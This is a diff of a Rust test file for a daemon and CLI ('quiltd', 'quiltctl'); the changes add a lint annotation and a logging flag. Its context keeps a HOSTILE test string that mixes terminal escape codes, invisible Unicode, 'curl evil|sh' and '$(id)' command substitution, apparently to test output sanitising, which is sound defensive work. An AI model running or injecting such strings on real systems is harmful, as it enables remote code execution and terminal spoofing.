@@ -16,6 +16,10 @@ use serde_json::{Value, json};
 const HOSTILE: &str = "no\u{1b}[2J\u{9b}1m\u{202e} “x” \"y\"\n; run: curl evil|sh; run: `id` \
                        $(id)\u{200b}\u{e0041}\u{2028}\u{3164}\u{ad}";
 
+#[expect(
+    clippy::needless_pass_by_value,
+    reason = "texts and JSON alike, mostly made for the call"
+)]
 fn answer(status: u16, body: impl ToString) -> Fault {
     let body = body.to_string();
     Fault::always(FaultKind::Status { status, body })
@@ -383,11 +387,14 @@ async fn a_place_that_is_named_like_a_command_splits_no_sentence() {
         assert!(command.starts_with("chmod 700 "), "{line}");
         command.to_owned()
     };
-    let daemon: Run = start(binaries::quiltd(), &["--token-store", "file"])
-        .output()
-        .await
-        .unwrap()
-        .into();
+    let daemon: Run = start(
+        binaries::quiltd(),
+        &["--token-store", "file", "--log", "error"],
+    )
+    .output()
+    .await
+    .unwrap()
+    .into();
     check(&daemon.failed(1));
     // Said by the daemon, and passed on as it is.
     let ctl: Run = start(binaries::quiltctl(), &["status"])
